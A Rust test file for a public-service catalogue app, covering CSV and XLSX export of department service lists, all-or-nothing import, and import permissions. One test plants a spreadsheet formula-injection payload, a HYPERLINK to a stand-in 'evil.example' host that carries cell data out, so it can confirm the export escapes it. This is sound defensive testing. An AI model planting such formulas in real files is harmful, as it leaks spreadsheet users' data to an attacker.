//! Lists as CSV and XLSX files: export in the policy's layout, import all rows or none.

use crate::common;

use common::{error_of, new_client, spawn, TestApp};
use reqwest::multipart::{Form, Part};
use reqwest::Client;
use sqlx::PgPool;

async fn import(
    app: &TestApp,
    client: &Client,
    department: i64,
    name: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let form = Form::new()
        .text("department_id", department.to_string())
        .part("file", Part::bytes(bytes).file_name(name.to_string()));
    client
        .post(format!("{}/api/catalog/import_list", app.base))
        .header("Origin", &app.base)
        .header("Accept", "application/json")
        .multipart(form)
        .send()
        .await
        .unwrap()
}

async fn export(app: &TestApp, department: i64, ext: &str) -> Vec<u8> {
    let res = app.get(&format!("/lists/{department}/export.{ext}")).await;
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("attachment"));
    res.bytes().await.unwrap().to_vec()
}

async fn draft_names(app: &TestApp, department: i64) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT i.name FROM service_items i JOIN item_lists l ON l.id = i.list_id
         WHERE l.department_id = $1 AND l.status = 'draft' ORDER BY i.seq",
    )
    .bind(department)
    .fetch_all(&app.pool)
    .await
    .unwrap()
}

#[sqlx::test(migrator = "server::db::MIGRATOR")]
async fn export_uses_the_policys_columns(pool: PgPool) {
    let app = spawn(pool).await;
    let market = app.department_id("市场监督管理局").await;
    let csv = String::from_utf8(export(&app, market, "csv").await).unwrap();
    let csv = csv.strip_prefix('\u{feff}').expect("BOM for Excel");
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "序号,单位名称,业务办理项名称,事前辅导事项名称（选填）,事项类型,备注,事项类别,承诺时限（工作日）,收费标准"
    );
    assert_eq!(lines.next().unwrap(), "1,市场监督管理局,企业设立登记（营业执照）,名称自主申报,即办类,材料齐全当场办结,企业注册登记,,");
    assert_eq!(lines.count(), 4);

    let xlsx = export(&app, market, "xlsx").await;
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let sheet = book.worksheet_range("事项清单").unwrap();
    assert_eq!(sheet.get_size(), (6, 9));
    assert_eq!(sheet.get_value((3, 2)).unwrap().to_string(), "企业注销登记");

    assert_eq!(app.get("/lists/999999/export.csv").await.status(), 404);
}

/// The attack: a remark typed as a formula, filed, exported, and opened in Excel by someone
/// else. The cell is written as text, and a file exported and imported again keeps the words.
#[sqlx::test(migrator = "server::db::MIGRATOR")]
async fn an_exported_cell_never_runs_as_a_formula(pool: PgPool) {
    let app = spawn(pool).await;
    let market = app.department_id("市场监督管理局").await;
    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";
    sqlx::query("UPDATE service_items SET remarks = $1 WHERE name = '企业设立登记（营业执照）'")
        .bind(evil)
        .execute(&app.pool)
        .await
        .unwrap();
    let csv = String::from_utf8(export(&app, market, "csv").await).unwrap();
    let row = csv.lines().find(|l| l.contains("企业设立登记")).unwrap();
    assert!(row.contains(",\"'=HYPERLINK("), "{row}");
    assert!(!row.contains(",\"=HYPERLINK("), "{row}");

    let client = app.client_as("manager01").await;
    let res = import(&app, &client, market, "list.csv", csv.into_bytes()).await;
    assert!(res.status().is_success(), "{}", res.status());
    let remarks: String = sqlx::query_scalar(
        "SELECT i.remarks FROM service_items i JOIN item_lists l ON l.id = i.list_id
         WHERE l.department_id = $1 AND l.status = 'draft' AND i.name = '企业设立登记（营业执照）'",
    )
    .bind(market)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(remarks, evil);
}

#[sqlx::test(migrator = "server::db::MIGRATOR")]
async fn an_import_with_a_bad_row_changes_nothing_and_lists_every_bad_row(pool: PgPool) {
    let app = spawn(pool).await;
    let market = app.department_id("市场监督管理局").await;
    let client = app.client_as("manager01").await;
    let good = String::from_utf8(export(&app, market, "csv").await).unwrap();
    let bad = good
        .replace("2,市场监督管理局,企业变更登记", "2,税务局,企业变更登记")
        .replace(
            "3,市场监督管理局,企业注销登记,清税证明办理,承诺类",
            "3,市场监督管理局,企业注销登记,清税证明办理,快办类",
        );
    let err = error_of(import(&app, &client, market, "list.csv", bad.into_bytes()).await).await;
    let rows = err["BadRows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["line"], 3);
    assert_eq!(
        rows[0]["reasons"][0],
        "单位名称应为“市场监督管理局”，实为“税务局”"
    );
    assert_eq!(rows[1]["line"], 4);
    assert!(rows[1]["reasons"][0].as_str().unwrap().contains("快办类"));
    // Nothing at all was written: not even a draft.
    let drafts: i64 = sqlx::query_scalar("SELECT count(*) FROM item_lists WHERE status <> 'filed'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(drafts, 0);

    let err = error_of(import(&app, &client, market, "x.csv", b"a,b\n1,2\n".to_vec()).await).await;
    assert!(err["Invalid"][0]["message"]
        .as_str()
        .unwrap()
        .starts_with("第1行应为表头"));
}

#[sqlx::test(migrator = "server::db::MIGRATOR")]
async fn good_files_replace_the_draft_and_keep_materials(pool: PgPool) {
    let app = spawn(pool).await;
    let market = app.department_id("市场监督管理局").await;
    let client = app.client_as("manager01").await;
    let csv = String::from_utf8(export(&app, market, "csv").await).unwrap();
    // Rename one item, drop another, add a new one.
    let edited: String = csv
        .replace("企业变更登记", "企业变更（备案）登记")
        .lines()
        .filter(|l| !l.contains("个体工商户设立登记"))
        .chain(["6,市场监督管理局,药品经营许可,,承诺类,,企业注册登记,15,"])
        .map(|l| format!("{l}\r\n"))
        .collect();
    let res = import(&app, &client, market, "list.csv", edited.into_bytes()).await;
    assert!(res.status().is_success(), "{}", res.status());
    let n: usize = res.json().await.unwrap();
    assert_eq!(n, 5);
    assert_eq!(
        draft_names(&app, market).await,
        [
            "企业设立登记（营业执照）",
            "企业变更（备案）登记",
            "企业注销登记",
            "食品经营许可",
            "药品经营许可"
        ]
    );
    let materials: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM item_materials m JOIN service_items i ON i.id = m.item_id
         JOIN item_lists l ON l.id = i.list_id WHERE l.status = 'draft' AND i.name = '企业设立登记（营业执照）'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(materials, 5, "unchanged items keep their materials");
    // The public list is untouched until filed.
    let public = app.search("药品经营许可", "", "").await;
    assert!(public.is_empty());

    // The same list as XLSX, re-imported, gives back the filed names; GB18030 CSV works too.
    let xlsx = export(&app, market, "xlsx").await;
    assert!(import(&app, &client, market, "list.xlsx", xlsx)
        .await
        .status()
        .is_success());
    assert_eq!(draft_names(&app, market).await.len(), 5);
    assert_eq!(draft_names(&app, market).await[1], "企业变更登记");
    let (gbk, _, _) = encoding_rs::GB18030.encode(csv.trim_start_matches('\u{feff}'));
    assert!(import(&app, &client, market, "gbk.csv", gbk.into_owned())
        .await
        .status()
        .is_success());
}

#[sqlx::test(migrator = "server::db::MIGRATOR")]
async fn only_the_units_manager_imports(pool: PgPool) {
    let app = spawn(pool).await;
    let market = app.department_id("市场监督管理局").await;
    let csv = export(&app, market, "csv").await;
    for login in ["agent01", "supervisor01", "13800000001"] {
        let client = app.client_as(login).await;
        let err = error_of(import(&app, &client, market, "list.csv", csv.clone()).await).await;
        assert_eq!(err, serde_json::json!("Forbidden"), "{login}");
    }
    let err = error_of(import(&app, &new_client(), market, "list.csv", csv).await).await;
    assert_eq!(err, serde_json::json!("Unauthenticated"));
}
